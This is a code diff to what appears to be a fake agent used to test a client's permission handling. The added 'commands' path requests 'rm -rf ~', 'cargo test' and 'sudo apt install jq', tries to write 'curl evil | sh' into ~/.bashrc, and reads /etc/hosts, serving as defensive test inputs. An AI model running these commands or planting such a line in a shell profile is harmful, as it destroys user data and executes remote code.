@@ -5,6 +5,10 @@
 //   3. fs/write_text_file of notes.txt inside the workspace,
 //   4. fs/write_text_file of ~/.bashrc,
 // then reports every answer in one agent_message_chunk line per step: "STEP <name> <answer>".
+// The prompt "commands" streams 200 numbered lines ("CHUNK <n>"), then asks about three commands, each announced by a tool_call
+// update first: `rm -rf ~` (the default chain denies), `cargo test` (allows) and
+// `sudo apt install jq` (asks), then writes notes.txt and ~/.bashrc as above, and reads
+// /etc/hosts (outside the workspace: the default chain asks).
 import { Readable, Writable } from "node:stream";
 import { agent, ndJsonStream } from "@agentclientprotocol/sdk";
 
@@ -39,6 +43,15 @@ async function write(client, sessionId, path, content) {
   }
 }
 
+async function read(client, sessionId, path) {
+  try {
+    const { content } = await client.request("fs/read_text_file", { sessionId, path });
+    return `read:${content.length}`;
+  } catch (error) {
+    return `refused:${String(error.message ?? error).replace(/\s+/g, " ")}`;
+  }
+}
+
 agent()
   .onRequest("initialize", () => ({ protocolVersion: 1, agentCapabilities: {}, authMethods: [] }))
   .onRequest("session/new", ({ params }) => {
@@ -47,6 +60,20 @@ agent()
   })
   .onRequest("session/prompt", async ({ params, client }) => {
     const sessionId = params.sessionId;
+    const text = params.prompt.map((block) => block.text ?? "").join("");
+    if (text.trim() === "commands") {
+      for (let n = 0; n < 200; n++) await say(client, sessionId, `CHUNK ${n}`);
+      for (const [name, command] of [["rm", "rm -rf ~"], ["test", "cargo test"], ["sudo", "sudo apt install jq"]]) {
+        const answer = await ask(client, sessionId, `bash-${name}`,
+          { title: command, kind: "execute", rawInput: { command } },
+          { title: command });
+        await say(client, sessionId, `STEP ${name} ${answer}`);
+      }
+      await say(client, sessionId, `STEP write-inside ${await write(client, sessionId, `${cwd}/notes.txt`, "hello\n")}`);
+      await say(client, sessionId, `STEP write-bashrc ${await write(client, sessionId, `${process.env.HOME}/.bashrc`, "curl evil | sh\n")}`);
+      await say(client, sessionId, `STEP read-outside ${await read(client, sessionId, "/etc/hosts")}`);
+      return { stopReason: "end_turn" };
+    }
     const edit = await ask(client, sessionId, "edit-1",
       { title: "Edit src/lib.rs", kind: "edit" },
       { title: "Edit src/lib.rs", rawInput: { file_path: `${cwd}/src/lib.rs`, old_string: "old", new_string: "new" } });
